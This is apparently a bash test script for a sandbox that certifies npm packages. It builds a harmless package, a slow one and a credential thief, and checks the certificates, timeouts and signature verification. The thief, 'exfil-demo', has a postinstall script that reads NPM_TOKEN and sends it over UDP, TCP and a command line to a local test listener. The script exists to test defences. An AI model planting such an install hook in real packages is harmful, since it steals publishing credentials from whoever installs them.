#!/usr/bin/env bash
# install_scripts.sh: certification runs install scripts in the sandbox
# (issue 7). Packages are built here and served by the registry stand-in on
# 127.0.0.1; a listener of the test's own on 127.0.0.1 and [::1] must see
# nothing from them.
#   - a postinstall that reads NPM_TOKEN and sends it to the listener over
#     UDP (v4), TCP (v6) and as a command-line argument: the attempts are on
#     the certificate, the canary is CRITICAL, the package is blocked;
#   - a harmless postinstall: certified, with its execution summary;
#   - a postinstall that sleeps 60 s: timed_out within the 30 s timeout, and
#     certification goes on;
#   - a signed package certificate altered by one byte fails sigma verify.
source "$(dirname "$0")/../lib.sh"
command -v node > /dev/null || { skip "node is not installed: npm install scripts cannot run"; done_testing; exit 0; }
command -v python3 > /dev/null || { skip "python3 is needed for the stand-ins"; done_testing; exit 0; }
out=$T/out
reg=$T/reg && mkdir -p "$reg/npm" "$reg/pypi"

python3 "$TESTS_DIR/sandbox/listener.py" "$T/lport" "$T/listener.log" &
_pids+=($!)
for _ in $(seq 50); do [ -s "$T/lport" ] && break; sleep 0.1; done
lport=$(cat "$T/lport")
: > "$T/listener.log"

mkpkg() {  # mkpkg NAME VERSION POSTINSTALL [FILE CONTENT]...: a tarball in the stand-in's directory
	local name=$1 version=$2 script=$3; shift 3
	local d=$T/build/$name && rm -rf "$d" && mkdir -p "$d/package"
	python3 -c 'import json,sys; print(json.dumps({"name": sys.argv[1], "version": sys.argv[2], "scripts": {"postinstall": sys.argv[3]}}))' \
		"$name" "$version" "$script" > "$d/package/package.json"
	while [ $# -gt 1 ]; do printf '%s' "$2" > "$d/package/$1"; shift 2; done
	tar czf "$reg/npm/$name-$version.tgz" -C "$d" package
}

mkpkg exfil-demo 1.0.0 'node steal.js; /bin/echo "$NPM_TOKEN" > /dev/null' steal.js "
const dgram = require('dgram'), net = require('net');
const token = process.env.NPM_TOKEN || 'none';
const u = dgram.createSocket('udp4');
u.on('error', () => {});
u.send(Buffer.from('token=' + token), $lport, '127.0.0.1', () => u.close());
const c = net.connect($lport, '::1');
c.on('error', () => {});
c.on('connect', () => c.end(token));
setTimeout(() => process.exit(0), 500);
"
mkpkg clean-build 1.0.0 'node -e "require(\"fs\").writeFileSync(\"/tmp/built.txt\", \"ok\")" && echo built'
mkpkg slow-install 1.0.0 'sleep 60'

python3 "$TESTS_DIR/registry_standin.py" "$reg" > "$T/port" 2> "$T/standin.err" &
_pids+=($!)
for _ in $(seq 50); do [ -s "$T/port" ] && break; sleep 0.1; done
export SIGMA_NPM_REGISTRY=http://127.0.0.1:$(cat "$T/port")
sigma keygen > /dev/null
field() { sigma registry show npm "$1" "$2" --json | python3 -c "import json,sys; c=json.load(sys.stdin); print($3)"; }

# --- the thief ---------------------------------------------------------------------
sigma certify npm exfil-demo 1.0.0 > "$out" 2>&1
check "the stealing package is blocked" test "$(field exfil-demo 1.0.0 "c['status']")" = blocked
check "... its certificate records the UDP attempt to the test's listener" \
	test "$(field exfil-demo 1.0.0 "[(a['syscall'] in ('sendto', 'sendmsg'), a['address'], a['port']) for a in c['execution']['network_attempts'] if a['family'] == 'inet']")" = "[(True, '127.0.0.1', $lport)]"
check "... with the datagram's start, the token redacted" \
	test "$(field exfil-demo 1.0.0 "[a.get('payload') for a in c['execution']['network_attempts'] if a['family'] == 'inet']")" = "['token=<NPM_TOKEN canary>']"
check "... and the command line that carried it, redacted" \
	test "$(field exfil-demo 1.0.0 "[s for s in c['execution']['spawned'] if s.startswith('/bin/echo')]")" = "['/bin/echo <NPM_TOKEN canary>']"
check "... and the TCP attempt to [::1]" \
	test "$(field exfil-demo 1.0.0 "[(a['syscall'], a['address'], a['port']) for a in c['execution']['network_attempts'] if a['family'] == 'inet6']")" = "[('connect', '::1', $lport)]"
check "... a network attempt at install time is a HIGH finding" \
	test "$(field exfil-demo 1.0.0 "[w['severity'] for w in c['retained_warnings'] if w['code'] == 'install-network']")" = "['HIGH']"
check "... and the canary NPM_TOKEN leaving the sandbox is CRITICAL" \
	test "$(field exfil-demo 1.0.0 "[w['severity'] for w in c['retained_warnings'] if w['code'] == 'canary-exfiltration']")" = "['CRITICAL']"
check "... naming the canary" test "$(field exfil-demo 1.0.0 "c['execution'].get('canary_leaked')")" = NPM_TOKEN
sigma registry show npm exfil-demo 1.0.0 --json > "$T/exfil.json"
check "... the certificate never holds a canary's value" bash -c "! grep -q sigmacanary '$T/exfil.json'"
check "... and the security level is CRITICAL" test "$(field exfil-demo 1.0.0 "c['security_level']")" = CRITICAL
sleep 0.5
check "the listener on 127.0.0.1 and [::1] saw nothing" test ! -s "$T/listener.log"

# --- the harmless build --------------------------------------------------------------
sigma certify npm clean-build 1.0.0 > "$out" 2>&1
check "a harmless postinstall is certified" test "$(field clean-build 1.0.0 "c['status']")" = certified
check "... its execution summary says it completed, with no network attempt" \
	test "$(field clean-build 1.0.0 "(c['execution']['outcome'], c['execution']['ran'], c['execution']['network_attempts'])")" = "('completed', 'postinstall', [])"
check "... counts its process spawns (node)" test "$(field clean-build 1.0.0 "c['execution']['process_spawns'] >= 1 and any('node' in s for s in c['execution']['spawned'])")" = True
check "... and lists the files it wrote" test "$(field clean-build 1.0.0 "c['execution']['files_written']")" = "['/tmp/built.txt']"

# --- the sleeper ----------------------------------------------------------------------
start=$(date +%s)
sigma certify npm slow-install 1.0.0 > "$out" 2>&1; rc=$?
took=$(( $(date +%s) - start ))
check "a 60 s postinstall is cut off by the 30 s timeout (took ${took} s)" test "$took" -lt 45
check "... the outcome is timed_out" test "$(field slow-install 1.0.0 "c['execution']['outcome']")" = timed_out
check "... and certification went on: the package is certified on its static review" \
	test "$(field slow-install 1.0.0 "c['status']")" = certified
check "... sigma certify exits 0" test "$rc" -eq 0

# --- a signed package certificate, then one byte changed ------------------------------
sigma registry show npm clean-build 1.0.0 --json > "$T/pkg.json"
sigma verify "$T/pkg.json" > "$out"; rc=$?
check "the package certificate is signed and verifies" test "$rc" -eq 0
check "... naming the key" grep -q "signed by key" "$out"
sed 's/"outcome":"completed"/"outcome":"completes"/' "$T/pkg.json" > "$T/pkg-altered.json"
check "(the copy differs in one byte)" test "$(cmp -l "$T/pkg.json" "$T/pkg-altered.json" | wc -l)" -eq 1
if sigma verify "$T/pkg-altered.json" > "$out"; then nok "a package certificate altered by one byte fails sigma verify"; else ok "a package certificate altered by one byte fails sigma verify"; fi
done_testing
